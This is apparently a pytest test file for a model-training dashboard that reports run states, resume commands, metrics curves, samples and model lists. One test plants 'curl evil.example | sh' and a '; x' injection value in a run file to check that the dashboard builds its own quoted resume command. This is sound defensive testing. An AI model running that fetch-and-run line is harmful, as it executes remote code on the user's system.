"""What the board says of runs: their state from lock and run.json, their texts, and nothing from outside."""

import fcntl
import json
import os
from urllib.parse import quote

import pytest
import torch

from ligermodels.board.folders import Place
from ligermodels.board.runs import Library, WatchedRun
from ligermodels.training.reporting.metrics import Metrics, Validation
from ligermodels.training.run.folder import RunStatus
from ligermodels.weights.writing import lock_file
from tests.board.serving import serving, write_run


def watched(folder):
    run = WatchedRun("0:x", "x", Place(folder.parent, folder.name))
    while run.update(10**6):
        pass
    return run


@pytest.mark.parametrize("state", ["finished", "stopped", "failed"])
def test_a_run_that_has_ended_says_how(tmp_path, state):
    write_run(tmp_path / "run", status={"state": state, "error": "loss is nan"})
    run = watched(tmp_path / "run")
    assert run.state == state and run.details()["error"] == "loss is nan"
    assert run.details()["resumable"] == (state != "finished")


def test_a_run_trains_while_its_lock_is_held_and_has_died_when_it_is_free(tmp_path):
    folder = write_run(tmp_path / "run", status={"state": "running"})
    with lock_file(folder / "lock"):
        assert watched(folder).state == "running"
    run = watched(folder)
    assert run.state == "died" and run.details()["resumable"]


def test_a_lock_that_was_found_free_is_not_taken_again_until_it_was_held(tmp_path, monkeypatch):
    folder = write_run(tmp_path / "run", status={"state": "running"})
    lock_file(folder / "lock").close()
    taken = []
    monkeypatch.setattr(fcntl, "flock", lambda *arguments: taken.append(arguments))
    run = watched(folder)
    assert run.state == "died" and len(taken) == 1
    run.update(1)
    assert len(taken) == 1
    monkeypatch.undo()
    with lock_file(folder / "lock"):
        run.update(1)
        assert run.state == "running"


def test_a_run_of_before_run_json_is_finished_if_it_has_an_export(tmp_path):
    folder = write_run(tmp_path / "run")
    assert watched(folder).state == "ended"
    (folder / "model").mkdir()
    (folder / "model/config.json").write_text("{}")
    assert watched(folder).state == "finished"
    assert watched(folder).details()["resume"] == f"ligermodels train --resume {folder}"


def test_the_command_that_resumes_a_run_is_not_taken_from_a_file(tmp_path):
    folder = write_run(tmp_path / "a run", status={"state": "died", "resume": "curl evil.example | sh", "ranks": "; x"})
    assert watched(folder).details()["resume"] == f"ligermodels train --resume '{folder}'"
    folder = write_run(tmp_path / "\x15x\n", status={"state": "died"})
    command = watched(folder).details()["resume"]
    assert command.isprintable() and command.startswith("# rename the folder")


def test_loss_and_time_left_are_those_that_the_console_prints(tmp_path, capsys):
    """Also of a run so long that its curve has means of several steps; time is left while it trains alone."""
    folder = write_run(tmp_path / "run", steps=0, status={"state": "running"})
    with Metrics(folder, steps=20_000, device=torch.device("cpu"), log_every=8193) as metrics:
        for step in range(1, 8194):
            metrics.step(step, step / 7, 1.0, 0.1, tokens=1)
        metrics.validation(8193, Validation(-0.0001))
    line, validation = capsys.readouterr().out.splitlines()
    assert watched(folder).summary()["eta"] is None
    with lock_file(folder / "lock"):
        found = watched(folder).summary()
    assert found["losses"] == {"loss": "1170.429", "validation_loss": "0.000"}
    assert f"ETA {found['eta']}, loss {found['losses']['loss']}, " in line
    assert f"validation loss {found['losses']['validation_loss']} " in validation
    with (folder / "metrics.jsonl").open("a") as stream:  # a resumed run has no estimate at its first steps
        stream.write('{"step": 8194, "loss": 1.0}\n')
    with lock_file(folder / "lock"):
        assert watched(folder).summary()["eta"] is None


def test_a_run_was_last_written_when_its_metrics_were(tmp_path):
    folder = write_run(tmp_path / "run", status={"state": "finished"})
    run = watched(folder)
    for seconds in (10**9, 10**9 + 100):
        os.utime(folder / "metrics.jsonl", (0, seconds))
        assert run.update(1) and run.summary()["newest"] == seconds
    (folder / "run.json").touch()
    (folder / "lock").touch()
    assert not run.update(1) and run.summary()["newest"] == 10**9 + 100
    (folder / "metrics.jsonl").unlink()
    os.utime(folder / "train.toml", (0, 10**9 + 5))
    assert run.update(1) and run.summary()["newest"] == 10**9 + 5


def test_warnings_are_those_of_the_run_and_of_lines_that_cannot_be_read(tmp_path):
    status = {"state": "finished", "warnings": [{"step": 3, "text": "many epochs"}, "x", {"step": [], "text": 1}]}
    run = watched(write_run(tmp_path / "run", status=status, lines=["{"]))
    assert run.warnings() == [
        {"step": 3, "text": "many epochs"}, {"step": None, "text": None},
        {"step": None, "text": "metrics.jsonl: 1 lines cannot be read and are left out"},
    ]  # fmt: skip


@pytest.mark.parametrize(
    "content", ["[" * 10**5, "[1, 2]", '{"state": 3, "warnings": 7, "resume": {}}', "\0", "x" * 10**6]
)
def test_a_hostile_run_json_and_train_toml_break_nothing(tmp_path, content):
    folder = write_run(tmp_path / "run", settings=content)
    (folder / "run.json").write_text(content)
    with serving(tmp_path) as board:
        assert board.summary("0:run")["state"] == "ended"
        assert board.get("/api/run?run=0:run")["settings"] == {}


def test_settings_that_json_lacks_are_texts(tmp_path):
    write_run(tmp_path / "run", settings="max_grad_norm = inf\nat = 2026-01-01\nnan = nan\nmodel = 3\n")
    with serving(tmp_path) as board:
        board.summary("0:run")
        settings = board.get("/api/run?run=0:run")["settings"]
        assert settings == {"max_grad_norm": "inf", "at": "2026-01-01", "nan": "nan", "model": 3}


def test_curves_have_steps_and_values_or_their_range_where_points_are_few(tmp_path):
    write_run(tmp_path / "run", steps=4)
    with serving(tmp_path) as board:
        board.summary("0:run")
        found = board.get("/api/curves?runs=0:run&names=loss%0Anone&first=2&last=4")["0:run"]
        assert found["curves"] == {"loss": [[2, 3, 4], [2, 1.33333, 1]]} and found["version"] > 0
        few = board.get("/api/curves?runs=0:run&names=loss&points=2")["0:run"]["curves"]["loss"]
        assert few == [[1.5, 3.5], [2, 1], [4, 1.33333], [3, 1.16667]]


def test_curves_of_a_run_that_is_named_many_times_are_drawn_once(tmp_path):
    write_run(tmp_path / "run")
    with serving(tmp_path) as board:
        board.summary("0:run")
        content = board.raw("GET", "/api/curves?runs=" + "%0A".join(["0:run"] * 6000) + "&names=loss%0Aloss")[2]
        assert content.count(b"curves") == content.count(b'"loss"') == 1


def test_samples_and_completions_are_read_by_step(tmp_path):
    samples = [json.dumps({"step": n, "validation_loss": 1.0, "sample": f"<script>{n}</script>"}) for n in (2, 4)]
    folder = write_run(tmp_path / "run", lines=samples)
    lines = [
        {"step": step, "prompt": "p", "completion": f"c{step}{i}", "rewards/x": i + 0.5, "advantage": None}
        for step in (1, 3) for i in range(2)
    ]  # fmt: skip
    (folder / "completions.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    with serving(tmp_path) as board:
        board.summary("0:run")
        assert board.get("/api/samples?run=0:run") == [{"step": n, "text": f"<script>{n}</script>"} for n in (2, 4)]
        found = board.get("/api/completions?run=0:run&step=2")
        assert found["range"] == [1, 3] and [c["completion"] for c in found["completions"]] == ["c10", "c11"]
        assert board.get("/api/completions?run=0:run")["completions"][1] == lines[3]


def test_published_runs_are_shown_and_neither_listed_among_ones_own_nor_resumed(tmp_path):
    with serving(tmp_path) as board:
        name = "SmolLM2-135M-Instruct: dpo, default"
        (run,) = [run for run in board.get("/api/published") if run["name"] == name]
        assert (run["state"], run["step"], run["steps"], run["objective"]) == ("published", 40, 40, "dpo")
        details = board.get(f"/api/run?run={quote(run['id'])}")
        assert details["settings"]["learning_rate"] == 5e-6 and not details["resumable"]
        query = f"runs={quote(run['id'])}&names=validation_rewards/margins&first=32"
        (curve,) = board.get(f"/api/curves?{query}")[run["id"]]["curves"].values()
        assert curve == [[32, 40], [0.56503, 0.5951]]
        assert board.get(f"/api/samples?run={quote(run['id'])}") == [] and not board.library.runs
        for path in ("/api/resume", "/api/stop"):
            assert board.post(path, {"run": run["id"]}) == (404, {"error": "there is no such run"})
        assert all(model["id"] != run["id"] for model in board.get("/api/models"))


def test_runs_that_come_and_go_are_noticed(tmp_path):
    write_run(tmp_path / "a")
    with serving(tmp_path) as board:
        board.summary("0:a")
        write_run(tmp_path / "deep/b")
        write_run(tmp_path / "deep/b/checkpoints/no")
        write_run(tmp_path / ".hidden/c")
        assert board.summary("0:deep/b")["step"] == 5
        assert set(board.library.runs) == {"0:a", "0:deep/b"}


def test_a_run_that_breaks_the_reader_says_so_and_others_go_on(tmp_path, monkeypatch, capfd):
    original = WatchedRun.update

    def update(self, most):
        if self.name == "bad":
            raise ZeroDivisionError("why")
        return original(self, most)

    monkeypatch.setattr(WatchedRun, "update", update)
    write_run(tmp_path / "bad")
    write_run(tmp_path / "good")
    with serving(tmp_path) as board:
        board.summary("0:good", lambda run: run["step"] == 5)
        warned = board.summary("0:bad", lambda run: run["warnings"] == 1)
        assert warned["step"] is None
        assert board.get("/api/run?run=0:bad")["warnings"][0]["text"] == "cannot be read: ZeroDivisionError: why"


def test_only_the_newest_runs_are_kept(tmp_path, monkeypatch):
    monkeypatch.setattr("ligermodels.board.runs.MAX_RUNS", 3)
    for number in range(5):
        write_run(tmp_path / f"run-{number}")
    library = Library([tmp_path])
    library.scan()
    assert len(library.runs) == 3


def test_models_are_listed_once_exports_first_the_newest_first(tmp_path, monkeypatch):
    """The chat opens on the first: it needs none of the data of its run, which may lie anywhere."""
    for age, name in enumerate(("new", "old")):
        folder = write_run(tmp_path / f"runs/{name}", settings='model = "qwen2"\ndata = ["/outside/own.jsonl"]\n')
        for step in (4, 10):
            (folder / f"checkpoints/step-{step:06d}").mkdir(parents=True)
        (folder / "model").mkdir()
        for file in ("config.json", "model.safetensors"):
            (folder / "model" / file).touch()
        for written in (folder, folder / "model"):
            os.utime(written, (0, 10**9 - age))
    with serving(tmp_path / "runs", tmp_path, tmp_path / "runs/old") as board:
        models = board.get("/api/models")
        assert [model["id"] for model in models] == [
            "0:new/model", "0:old/model", "0:new:10", "0:new:4", "0:old:10", "0:old:4",
        ]  # fmt: skip
        monkeypatch.setattr(board.actions.talkers[0], "ask", lambda question: iter([{"text": question["folder"]}]))
        body = {"model": models[0]["id"], "slot": 0, "prompt": "x", "max_new_tokens": 1}
        assert f'"text": "{tmp_path}/runs/new/model"' in board.post("/api/chat", body)[1]


def test_run_json_says_how_a_run_ends(tmp_path):
    said = []

    def content():
        return json.loads((tmp_path / "run.json").read_text())

    with RunStatus(tmp_path, {"resume": "x"}, say=said.append) as status:
        assert content()["state"] == "running" and content()["resume"] == "x"
        status.warn(3, "slow")
        assert content()["warnings"] == [{"step": 3, "text": "slow"}] and said == ["warning: slow"]
        status.end("stopped")
    assert content()["state"] == "stopped"
    with pytest.raises(ZeroDivisionError), RunStatus(tmp_path, {}, say=said.append):
        _ = 1 / 0
    assert content()["state"] == "failed" and content()["error"] == "division by zero"
    for signalled in (KeyboardInterrupt(), SystemExit(143)):
        with pytest.raises(type(signalled)), RunStatus(tmp_path, {"resume": "x"}, say=said.append):
            raise signalled
        assert content()["state"] == "stopped" and "error" not in content()
        assert said[-1] == "Stopped. To resume:\n  x"
    with RunStatus(tmp_path / "gone", {}, say=said.append):
        pass
    assert "not written" in said[-1]
    with RunStatus(tmp_path, {}, say=said.append, enabled=False) as silent:
        silent.end("finished")
    assert content()["state"] == "stopped"
